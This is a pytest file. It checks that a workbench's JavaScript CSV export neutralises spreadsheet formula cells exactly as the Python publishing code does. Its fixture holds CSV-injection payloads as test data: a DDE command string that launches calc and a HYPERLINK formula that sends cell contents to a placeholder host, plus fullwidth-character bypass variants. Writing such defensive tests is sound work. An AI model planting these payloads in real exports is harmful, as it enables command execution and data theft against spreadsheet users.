"""The workbench's CSV export (web/staff/js/csv.js, run in node) writes the same cells as the
publication's tables (chalicelib/publishing/render.py with chalicelib/spreadsheet.py)."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from chalicelib.publishing import render
from chalicelib.spreadsheet import neutralised

CSV_JS = Path(__file__).resolve().parents[2] / "web" / "staff" / "js" / "csv.js"

CELLS = [
    '=HYPERLINK("http://x"&A2,"详情")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd", "-2+3+cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "＝1+1", "﹢cmd", "＠x", "－1", "垃圾分类点需要加盖", "", "12号楼", "a=b", "'already quoted",
    " =1", 'say "hi", then\nleave', "line\r\nbreak", "😀=1", None, -5, 0, 12, 1.5, -0.25,
]


def run_js(script: str, payload: object) -> object:
    node = shutil.which("node")
    if node is None:
        pytest.fail("node is missing: the workbench's CSV rule is JavaScript and must be checked")
    source = f"import * as csv from {json.dumps(CSV_JS.as_uri())};\n" \
             "const input = JSON.parse(require_stdin());\n" + script
    source = source.replace("require_stdin()", "(await new Promise((ok) => { let s = '';"
                            " process.stdin.on('data', (d) => { s += d; }); process.stdin.on('end', () => ok(s)); }))")
    done = subprocess.run([node, "--input-type=module", "-e", source], input=json.dumps(payload), capture_output=True,
                          text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def test_each_cell_is_neutralised_as_the_python_rule_does():
    got = run_js("console.log(JSON.stringify(input.map((v) => csv.neutralised(v))));", CELLS)
    assert got == [neutralised(v) for v in CELLS]


def test_a_whole_file_is_the_bytes_the_publication_would_write():
    rows = [CELLS[i:i + 5] for i in range(0, len(CELLS), 5)]
    header = ["编号", "=标题", "状态", "金额", "备注"]
    script = ("const columns = input.header.map((label, i) => ({ label, value: (row) => row[i] }));\n"
              "console.log(JSON.stringify(csv.csvText(input.rows, columns)));")
    got = run_js(script, {"header": header, "rows": rows})
    assert got == render._csv(header, rows).decode("utf-8")
